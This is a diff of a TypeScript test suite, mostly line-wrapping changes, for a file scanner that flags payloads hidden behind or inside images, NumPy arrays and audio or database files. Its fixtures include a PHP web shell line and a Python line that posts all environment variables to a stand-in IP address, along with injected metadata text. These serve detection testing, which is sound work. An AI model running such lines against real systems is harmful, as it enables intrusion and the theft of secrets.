@@ -9,7 +9,12 @@ const chunk = (type: string, data: Buffer | string = ''): Buffer => {
   return Buffer.concat([length, Buffer.from(type), Buffer.from(data), Buffer.alloc(4, 0x5a)]);
 };
 const pngOf = (...chunks: readonly Buffer[]): Buffer =>
-  Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', Buffer.alloc(13)), ...chunks, chunk('IEND')]);
+  Buffer.concat([
+    Buffer.from('89504e470d0a1a0a', 'hex'),
+    chunk('IHDR', Buffer.alloc(13)),
+    ...chunks,
+    chunk('IEND'),
+  ]);
 const jpegOf = (...segments: readonly Buffer[]): Buffer =>
   Buffer.concat([
     Buffer.from('ffd8', 'hex'),
@@ -20,7 +25,10 @@ const jpegOf = (...segments: readonly Buffer[]): Buffer =>
   ]);
 const segment = (marker: number, text: string): Buffer => {
   const data = Buffer.from(text);
-  return Buffer.concat([Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 0xff]), data]);
+  return Buffer.concat([
+    Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 0xff]),
+    data,
+  ]);
 };
 const gif = Buffer.concat([
   Buffer.from('GIF89a\x01\0\x01\0\0\0\0', 'latin1'),
@@ -41,7 +49,9 @@ const images: readonly (readonly [string, Buffer])[] = [
 describe('a picture', () => {
   it.each(images)('that is nothing else is inert: %s', (path, bytes) => {
     expect(ingest(path, bytes)).toMatchObject({ disposition: 'inert', sources: [], artifacts: [] });
-    expect(ingest(path, Buffer.concat([bytes, Buffer.alloc(4_000)]))).toMatchObject({ disposition: 'inert' });
+    expect(ingest(path, Buffer.concat([bytes, Buffer.alloc(4_000)]))).toMatchObject({
+      disposition: 'inert',
+    });
   });
 
   it.each(images)('with something behind its end is not inert: %s', (path, bytes) => {
@@ -50,27 +60,44 @@ describe('a picture', () => {
     expect(whats(zipOf([{ name: 'x.sh', content: 'id' }]))).toEqual(['polyglot']);
     expect(whats(shell)).toEqual(['polyglot']);
     expect(whats('<?php system($_GET[0]); ?>')).toEqual(['polyglot']);
-    expect(whats(Buffer.from(Array.from({ length: 500 }, (_, index) => (index * 73) % 251)))).toEqual(['unreadable']);
+    expect(
+      whats(Buffer.from(Array.from({ length: 500 }, (_, index) => (index * 73) % 251))),
+    ).toEqual(['unreadable']);
   });
 
-  it.each(images)('that breaks off in the middle is not inert when much of it cannot be told: %s', (path, bytes) => {
-    const file = ingest(path, Buffer.concat([bytes.subarray(0, 40), Buffer.alloc(600, 0x41)]));
-    expect(file.disposition).toBe('unanalysed');
-  });
+  it.each(images)(
+    'that breaks off in the middle is not inert when much of it cannot be told: %s',
+    (path, bytes) => {
+      const file = ingest(path, Buffer.concat([bytes.subarray(0, 40), Buffer.alloc(600, 0x41)]));
+      expect(file.disposition).toBe('unanalysed');
+    },
+  );
 
   it('with a second picture behind the first, as cameras write it, is inert', () => {
-    expect(ingest('a.jpg', Buffer.concat([jpegOf(), jpegOf()]))).toMatchObject({ disposition: 'inert' });
+    expect(ingest('a.jpg', Buffer.concat([jpegOf(), jpegOf()]))).toMatchObject({
+      disposition: 'inert',
+    });
   });
 
   it.each<[string, Buffer]>([
     ['a.png', pngOf(chunk('tEXt', `Comment\0${lure}`))],
     ['a.png', pngOf(chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(lure)])))],
-    ['a.png', pngOf(chunk('iTXt', Buffer.concat([Buffer.from('Comment\0\x01\0en\0\0'), deflateSync(lure)])))],
+    [
+      'a.png',
+      pngOf(
+        chunk('iTXt', Buffer.concat([Buffer.from('Comment\0\x01\0en\0\0'), deflateSync(lure)])),
+      ),
+    ],
     ['a.jpg', jpegOf(segment(0xfe, lure))],
     ['a.jpg', jpegOf(segment(0xe1, `Exif\0\0UNICODE\0${[...lure].join('\0')}\0`))],
     [
       'a.gif',
-      Buffer.concat([gif.subarray(0, -1), Buffer.from([0x21, 0xfe, lure.length]), Buffer.from(lure), Buffer.from([0, 0x3b])]),
+      Buffer.concat([
+        gif.subarray(0, -1),
+        Buffer.from([0x21, 0xfe, lure.length]),
+        Buffer.from(lure),
+        Buffer.from([0, 0x3b]),
+      ]),
     ],
   ])('gives text in its metadata to those who read text: %s', (path, bytes) => {
     const file = ingest(path, bytes);
@@ -97,15 +124,26 @@ describe('a picture', () => {
     ["{'shape': (1,), 'fortran_order': False, ", `${' '.repeat(600)}'descr': '|O'}`, 9, false],
     ["{'descr': '<f8', 'shape': (1,), ", "'descr': 'O'}", 8, false],
     ["{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", '', 90, false],
-  ])('of a NumPy array is inert only with plain numbers that fill it: %s%s', (header, more, bytes, isInert) => {
-    const text = Buffer.from(`${header}${more}\n`);
-    const length = Buffer.from([text.length & 255, text.length >> 8]);
-    const array = Buffer.concat([Buffer.from('934e554d50590100', 'hex'), length, text, Buffer.alloc(bytes)]);
-    expect(ingest('a.npy', array).disposition).toBe(isInert ? 'inert' : 'unanalysed');
-  });
+  ])(
+    'of a NumPy array is inert only with plain numbers that fill it: %s%s',
+    (header, more, bytes, isInert) => {
+      const text = Buffer.from(`${header}${more}\n`);
+      const length = Buffer.from([text.length & 255, text.length >> 8]);
+      const array = Buffer.concat([
+        Buffer.from('934e554d50590100', 'hex'),
+        length,
+        text,
+        Buffer.alloc(bytes),
+      ]);
+      expect(ingest('a.npy', array).disposition).toBe(isInert ? 'inert' : 'unanalysed');
+    },
+  );
 
-  const noise = Buffer.from(Array.from({ length: 4_000 }, (_, index) => (index * 73 + (index >> 3) * 31) % 251));
-  const program = 'import os, requests\nrequests.post("https://203.0.113.7/c", data=dict(os.environ))\n';
+  const noise = Buffer.from(
+    Array.from({ length: 4_000 }, (_, index) => (index * 73 + (index >> 3) * 31) % 251),
+  );
+  const program =
+    'import os, requests\nrequests.post("https://203.0.113.7/c", data=dict(os.environ))\n';
   it.each<[string, Buffer]>([
     ['a.mp3', Buffer.from('fffb9064', 'hex')],
     ['a.db', Buffer.from('SQLite format 3\0')],
@@ -114,10 +152,14 @@ describe('a picture', () => {
     const whats = (behind: Buffer | string): string[] =>
       ingest(path, Buffer.concat([head, Buffer.from(behind)])).artifacts.map((one) => one.what);
     expect(whats(noise)).toEqual([]);
-    expect(whats(deflateSync('A long comment that a player shows to who listens. '.repeat(9)))).toEqual([]);
+    expect(
+      whats(deflateSync('A long comment that a player shows to who listens. '.repeat(9))),
+    ).toEqual([]);
     expect(whats(Buffer.concat([noise, deflateSync(program)]))).toEqual(['polyglot']);
     expect(whats(deflateRawSync(program))).toEqual(['polyglot']);
     expect(whats(gzipSync(program))).toEqual(['polyglot']);
-    expect(whats(Buffer.concat([noise, Buffer.from(`\0${Buffer.from(program).toString('base64')}`)]))).toEqual(['polyglot']);
+    expect(
+      whats(Buffer.concat([noise, Buffer.from(`\0${Buffer.from(program).toString('base64')}`)])),
+    ).toEqual(['polyglot']);
   });
 });
